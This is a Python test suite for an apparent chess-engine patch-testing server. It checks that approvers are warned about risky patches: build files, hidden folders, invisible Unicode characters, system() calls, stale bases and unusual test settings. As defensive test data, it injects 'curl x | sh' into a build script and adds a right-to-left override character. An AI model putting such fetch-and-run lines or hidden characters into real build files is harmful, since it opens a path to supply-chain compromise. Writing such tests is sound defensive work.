#!/usr/bin/python3
# test: sanitized only
"""What an approver is warned of: files, history and conditions, each by its name. The author reads the same before submission."""

import difflib
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "kit_py"))
from server import ROOT, Server
from submission import bare, git, patch, submission_server
from tap import contains, equal, run, true

server = submission_server()
dev, boss = server.client("dev"), server.client("boss")
HOSTILE = ROOT / "tests/data/hostile/engine"
DEEDS = {"Makefile": ("DEED =", "DEED = fork"), "deed.sh": ("case $1 in", "curl x | sh\ncase $1 in")}


def adds(name, *lines, mode=100644):
    body = "".join(f"+{line}\n" for line in lines)
    return f"diff --git a/{name} b/{name}\nnew file mode {mode}\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1,{len(lines)} @@\n{body}"


def ask(client, verb, **fields):
    return client.api("POST", f"/tests{verb}", {"title": "A test", "tc": "10+0.1", "patch": adds("plain.c", "int p;"), **fields})


def warnings(author=dev, approver=boss, **fields):
    """What the author reads before the submission and the approver after it: the same."""
    before = ask(author, "/check", **fields).json["warnings"]
    reply = ask(author, "", **fields)
    equal(reply.status, 201, reply)
    test = reply.json["id"]
    after = approver.api("GET", f"/tests/{test}").json["warnings"]
    equal(sorted(before), sorted(after))
    page = approver.get(f"/tests/{test}").words
    for text in after:
        contains(page, text)
    author.api("POST", f"/tests/{test}/stop")
    return after


def said(part, **fields):
    found = [text for text in warnings(**fields) if part in text]
    equal(len(found), 1, f"warnings of {part}")
    return found[0]


def unsaid(*parts, **fields):
    for text in warnings(**fields):
        true(not any(part in text for part in parts), text)


# ---- files

def each_risk_of_a_file_is_a_sentence_that_names_the_file():
    for name, lines, part in (("src/GNUmakefile", ["all:"], "decides how the engine is built"),
                              (".github/workflows/x.yml", ["on: push"], "lies in a hidden folder"),
                              ("wide.c", ["int " + "x" * 600 + ";"], "has a line that is too long"),
                              ("seen.c", ["int a\u202eb;"], "has characters that are not seen"),
                              ("calls.c", ["int n = system(0);"], "calls the system")):
        contains(said(part, patch=adds(name, *lines)), f"{name} ")
    equal(said("run", patch=adds("run", "true", mode=100755)), "run becomes executable.")
    unsaid("plain.c", "search.c", patch=patch().decode())


def a_long_list_of_files_is_cut_and_counted():
    text = "".join(adds(f"part{number}.mk", "all:") for number in range(13))
    found = [text for text in warnings(patch=text) if ".mk" in text or "more files" in text]
    equal((len(found), found[-1]), (11, "3 more files are as risky: see the diff."))


def every_hostile_patch_of_a_build_names_its_file():
    with Server(start=False, init_options=["--engine-source", str(HOSTILE)]) as own:
        for name, role in (("dev", "developer"), ("boss", "maintainer")):
            own.add_user(name, role)
        own.start()
        author, approver = own.client("dev"), own.client("boss")
        for name, (old, new) in DEEDS.items():
            text = (HOSTILE / name).read_text()
            lines = difflib.unified_diff(text.splitlines(True), text.replace(old, new).splitlines(True), f"a/{name}", f"b/{name}")
            found = warnings(author, approver, patch="".join(lines))
            true(any(line.startswith(f"{name} decides how the engine is built") for line in found), found)


# ---- history

def baseline():
    return git("rev-parse", "main", cwd=bare(server)).strip()


def branch(name, start):
    """A branch of one more commit that an operator fetched."""
    tree = server.folder / f"tree-{name}"
    git("clone", "-q", bare(server), tree)
    git("checkout", "-q", "-b", name, start, cwd=tree)
    (tree / f"{name}.c").write_text(f"int {name};\n")
    git("add", "-A", cwd=tree)
    git("commit", "-qm", f"Branch {name}", cwd=tree)
    server.command("engine", "fetch", server.data, tree, name)


def where_the_patch_does_not_belong_to_its_base_it_is_said():
    start = baseline()
    unsaid("The base", "its base", base=start)
    tree = server.folder / "tree"
    git("clone", "-q", bare(server), tree)
    for number in range(11):
        if number == 10:
            unsaid("old", base=start)
        (tree / "count.c").write_text(f"int c = {number};\n")
        server.command("engine", "import", server.data, tree)
    equal(said("old", base=start), "The base is old: the branch has 11 later commits.")
    branch("aside", start)
    branch("ahead", baseline())
    contains(said("takes away", patch="", commit="aside"), "The patch is not built on its base")
    contains(said("newest commit", patch="", commit="ahead", base=start), f"which is {baseline()[:10]}")
    unsaid("The base", "its base", patch="", commit="ahead")


# ---- conditions

def alpha_and_beta_above_the_usual_are_said():
    contains(said("alpha", alpha=0.1), "alpha is 0.1, above the usual 0.05: more worthless patches pass.")
    contains(said("beta", beta=0.2), "beta is 0.2")
    unsaid("alpha", "beta", alpha=0.05, beta=0.01)


def what_differs_from_the_preset_of_the_clock_is_named():
    equal(said("resign_score", resign_score=300), "resign_score is 300, and 600 in preset STC.")
    equal(said("batch_pairs", batch_pairs=64, tc="60+0.6", new_options="Hash=64", base_options="Hash=64"),
          "batch_pairs is 64, and 3 in preset LTC.")
    equal(said("two_sided", resign_two_sided="on"), "resign_two_sided is on, and off in preset STC.")
    equal(said("draw_count", draw="off", tc="20+0.2"), "draw_count is 0, and 8 in tests of this clock.")
    unsaid("preset", "tests of this clock", tc="20+0.2")
    unsaid("preset", "tests of this clock", preset="LTC", tc="60+0.6")


def a_hash_that_does_not_suit_the_clock_is_said():
    contains(said("Hash=16 in new_options", tc="60+0.6", new_options="Hash=16", base_options="Hash=64"), "usual are 64")
    unsaid("Hash", tc="60+0.6", new_options="Hash=64", base_options="Hash=64")
    unsaid("Hash", tc="10+0.1", new_options="Hash=512", base_options="Hash=512")


if __name__ == "__main__":
    try:
        run(each_risk_of_a_file_is_a_sentence_that_names_the_file,
            a_long_list_of_files_is_cut_and_counted,
            every_hostile_patch_of_a_build_names_its_file,
            where_the_patch_does_not_belong_to_its_base_it_is_said,
            alpha_and_beta_above_the_usual_are_said,
            what_differs_from_the_preset_of_the_clock_is_named,
            a_hash_that_does_not_suit_the_clock_is_said)
    finally:
        server.close()
